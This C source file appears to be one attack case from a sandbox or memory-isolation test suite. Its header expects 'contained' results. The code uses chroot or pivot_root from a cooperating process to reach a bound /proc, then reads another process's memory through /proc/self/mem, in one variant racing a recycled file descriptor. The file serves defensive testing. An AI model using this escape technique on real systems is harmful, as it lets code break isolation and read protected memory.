/* attack
class: file
aim: memory
may-be-closed: true
expect: { none: contained, mpk: contained }
variants:
  - { args: [chroot], tries: "/proc/PID/mem from a root directory that another process has moved, which shares it across an exec" }
  - { args: [chroot, race], race: true, tries: "the same, used by another thread before it is judged" }
  - { args: [pivot], tries: "/proc/PID/mem from a root directory that another process has moved for all of the namespace" }
*/
/* From a root directory that is no procfs, and without leaving its file system, no path leads to one. But another process can change the root
   directory: one that shares it and does not exec, or one that exchanges it for everybody (pivot_root). */
#include "attack.h"
#include <linux/sched.h>
#include <pthread.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <time.h>

static int number;
static uintptr_t wanted;
static volatile int got;

/* Beside the one that opens: it shares the descriptors, and knows which number comes next. */
static void *uses(void *unused) {
    unsigned char copy[16];
    while (wanted) got |= pread(number, copy, 16, (off_t)wanted) > 0;
    for (;;) pause();
    return unused;
}

static int sends(int to) { return write(to, "x", 1) == 1; }
static int receives(int from) {
    char byte;
    return read(from, &byte, 1) == 1;
}

static int looks(int to, int from, int races) {
    struct target t[64];
    int n = read_targets(t, 64);
    pthread_t thread;
    number = dup(0);
    close(number);
    if (races) wanted = t[n - 1].from;
    for (int i = 0; i < 2; i++) pthread_create(&thread, NULL, uses, NULL);
    if (!sends(to) || !receives(from)) return 0;
    for (time_t end = time(NULL) + 5; !got;) {
        int fd = open("/self/mem", O_RDONLY);
        for (int i = 0; i < n && fd >= 0; i++) {
            unsigned char copy[16];
            got |= pread(fd, copy, 16, (off_t)t[i].from) > 0;
        }
        if (fd >= 0) close(fd);
        if (!races || time(NULL) > end) break;
    }
    return got;
}

static int moves_root(const char *how) {
    if (strcmp(how, "chroot") == 0) return chroot("/proc");
    return syscall(SYS_pivot_root, "there", "there/tty");
}

int main(int argc, char **argv) {
    const char *how = argc > 1 ? argv[1] : "chroot";
    if (strcmp(how, "look") == 0) verdict(looks(atoi(argv[2]), atoi(argv[3]), argv[4] != NULL));
    int there[2], back[2], status = 0;
    if (pipe(there) || pipe(back)) return 1;
    if (unshare(CLONE_NEWNS | (geteuid() ? CLONE_NEWUSER : 0)) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL)) not_here("no mount namespaces here");
    mkdir("there", 0755);
    if (mount("/proc", "there", NULL, MS_BIND | MS_REC, NULL)) not_here("/proc cannot be bound here");
    int shared = strcmp(how, "chroot") == 0 ? CLONE_FS : 0;
    pid_t child = (pid_t)syscall(SYS_clone, SIGCHLD | shared, 0, 0, 0, 0);
    if (child == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        char to[16], from[16];
        snprintf(to, sizeof to, "%d", there[1]);
        snprintf(from, sizeof from, "%d", back[0]);
        execl("/proc/self/exe", argv[0], "look", to, from, argc > 2 ? argv[2] : NULL, NULL);
        _exit(1);
    }
    close(there[1]);
    if (receives(there[0]) && moves_root(how) != 0) printf("the root is not moved: %s\n", strerror(errno)), fflush(stdout);
    sends(back[1]);
    waitpid(child, &status, 0);
    _exit(WIFEXITED(status) ? WEXITSTATUS(status) : 1);
}
